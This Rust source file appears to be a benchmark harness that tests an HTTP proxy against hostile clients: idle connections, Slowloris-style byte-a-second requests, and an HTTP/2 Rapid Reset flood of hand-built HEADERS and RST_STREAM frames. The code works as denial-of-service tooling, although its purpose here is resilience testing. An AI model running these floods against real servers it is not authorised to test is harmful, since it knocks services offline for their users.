//! Clients that mean harm: some connect and say nothing more, some drip, some take HTTP/2 requests back at once.
//!
//! `attack ADDRESS IDLE SLOW RESETS_PER_SECOND` goes on until its standard input ends, then prints one line of JSON.
//! It prints `ready` once the idle and the slow ones are connected. Idle clients make one request and keep the
//! connection. Slow ones send a byte a second, half of them of a request's head, half of a body; those the proxy ends
//! come again. Resets are pairs of HEADERS and RST_STREAM, in bursts every 10 ms, on four connections, which are made anew
//! when the proxy ends them. Built by bench/hostile with plain `rustc -O`; standard library only.

use std::env;
use std::error::Error;
use std::io::{ErrorKind, Read, Write};
use std::net::TcpStream;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::thread;
use std::time::{Duration, Instant};

type Result<T> = std::result::Result<T, Box<dyn Error>>;

const FLOODS: u64 = 4;
const BURST_EVERY: Duration = Duration::from_millis(10);
const DRIP_EVERY: Duration = Duration::from_secs(1);

#[derive(Default)]
struct Counts {
    /// Slow clients that the proxy ended.
    slow_ended: AtomicU64,
    resets: AtomicU64,
    /// HTTP/2 connections that the proxy ended.
    floods_ended: AtomicU64,
    over: AtomicBool,
}

impl Counts {
    fn is_over(&self) -> bool {
        self.over.load(Ordering::Relaxed)
    }
}

fn idle(address: &str) -> Result<TcpStream> {
    let mut stream = TcpStream::connect(address)?;
    stream.write_all(b"GET /api/1k HTTP/1.1\r\nHost: a\r\n\r\n")?;
    let mut answer = [0; 4_096];
    let mut len = 0;
    // A kilobyte, and a head before it.
    while len < 1_100 {
        match stream.read(&mut answer[len..])? {
            0 => return Err("an idle client got no answer".into()),
            n => len += n,
        }
    }
    Ok(stream)
}

fn slow(address: &str, number: usize) -> Result<TcpStream> {
    let mut stream = TcpStream::connect(address)?;
    let start: &[u8] = match number % 2 {
        0 => b"GET /api/1k HTTP/1.1\r\nX-Slow: ",
        _ => b"POST /api/1k HTTP/1.1\r\nHost: a\r\nContent-Length: 100000\r\n\r\n",
    };
    stream.write_all(start)?;
    stream.set_nonblocking(true)?;
    Ok(stream)
}

/// Says one more byte, whatever the proxy says; whether that has ended the connection.
fn is_ended(stream: &mut TcpStream) -> bool {
    let ended = match stream.read(&mut [0; 4_096]) {
        Ok(read) => read == 0,
        Err(error) => error.kind() != ErrorKind::WouldBlock,
    };
    ended || stream.write_all(b"x").is_err()
}

fn drip(address: &str, mut clients: Vec<TcpStream>, counts: &Counts) -> Result<()> {
    while !counts.is_over() {
        let round = Instant::now();
        for (number, client) in clients.iter_mut().enumerate() {
            if is_ended(client) {
                counts.slow_ended.fetch_add(1, Ordering::Relaxed);
                *client = slow(address, number)?;
            }
            // Evenly over the second, as a thousand clients would.
            if number % 50 == 0 {
                thread::sleep(DRIP_EVERY / 25);
            }
        }
        thread::sleep(DRIP_EVERY.saturating_sub(round.elapsed()));
    }
    Ok(())
}

/// HEADERS of a request and its RST_STREAM (RFC 9113 §6.2, §6.4).
fn pair(out: &mut Vec<u8>, stream: u32) {
    // GET, http (RFC 7541, appendix A), then the path and the authority as literals.
    const BLOCK: &[u8] = b"\x82\x86\x04\x07/api/1k\x01\x01a";
    out.extend([0, 0, BLOCK.len() as u8, 1, 5]);
    out.extend(stream.to_be_bytes());
    out.extend(BLOCK);
    out.extend([0, 0, 4, 3, 0]);
    out.extend(stream.to_be_bytes());
    out.extend([0, 0, 0, 8]);
}

fn flood(address: &str, per_second: u64, counts: &Counts) -> Result<()> {
    let per_burst = per_second * BURST_EVERY.as_millis() as u64 / 1_000;
    while !counts.is_over() {
        let mut stream = TcpStream::connect(address)?;
        stream.write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\x00\x00\x00\x04\x00\x00\x00\x00\x00")?;
        let mut next = 1;
        let mut due = Instant::now();
        while !counts.is_over() {
            let mut burst = Vec::new();
            for _ in 0..per_burst {
                pair(&mut burst, next);
                next += 2;
            }
            if stream.write_all(&burst).is_err() {
                counts.floods_ended.fetch_add(1, Ordering::Relaxed);
                break;
            }
            counts.resets.fetch_add(per_burst, Ordering::Relaxed);
            due += BURST_EVERY;
            thread::sleep(due.saturating_duration_since(Instant::now()));
        }
    }
    Ok(())
}

fn run() -> Result<()> {
    let args: Vec<String> = env::args().skip(1).collect();
    let [address, idle_count, slow_count, resets] = args.as_slice() else {
        return Err("usage: attack ADDRESS IDLE SLOW RESETS_PER_SECOND".into());
    };
    let (idle_count, slow_count): (usize, usize) = (idle_count.parse()?, slow_count.parse()?);
    let resets: u64 = resets.parse()?;
    let counts = Arc::new(Counts::default());
    let idlers = (0..idle_count).map(|_| idle(address)).collect::<Result<Vec<_>>>()?;
    let clients = (0..slow_count).map(|number| slow(address, number)).collect::<Result<Vec<_>>>()?;
    println!("ready");
    let start = Instant::now();
    thread::scope(|scope| -> Result<()> {
        let counts = &counts;
        let report = |result: Result<()>| {
            if let Err(error) = result {
                eprintln!("attack: {error}");
            }
        };
        scope.spawn(move || report(drip(address, clients, counts)));
        if resets > 0 {
            (0..FLOODS).for_each(|_| drop(scope.spawn(move || report(flood(address, resets / FLOODS, counts)))));
        }
        std::io::stdin().read_to_end(&mut Vec::new())?;
        counts.over.store(true, Ordering::Relaxed);
        Ok(())
    })?;
    // What is left of the idle ones has been there all the time.
    let left = idlers.iter().filter(|stream| {
        let peeked = stream.set_nonblocking(true).and_then(|()| stream.peek(&mut [0]));
        matches!(peeked, Err(error) if error.kind() == ErrorKind::WouldBlock)
    });
    println!(
        r#"{{"seconds": {:.1}, "idle_left": {}, "slow_ended": {}, "resets": {}, "floods_ended": {}}}"#,
        start.elapsed().as_secs_f64(),
        left.count(),
        counts.slow_ended.load(Ordering::Relaxed),
        counts.resets.load(Ordering::Relaxed),
        counts.floods_ended.load(Ordering::Relaxed),
    );
    Ok(())
}

fn main() {
    if let Err(error) = run() {
        eprintln!("attack: {error}");
        std::process::exit(1);
    }
}
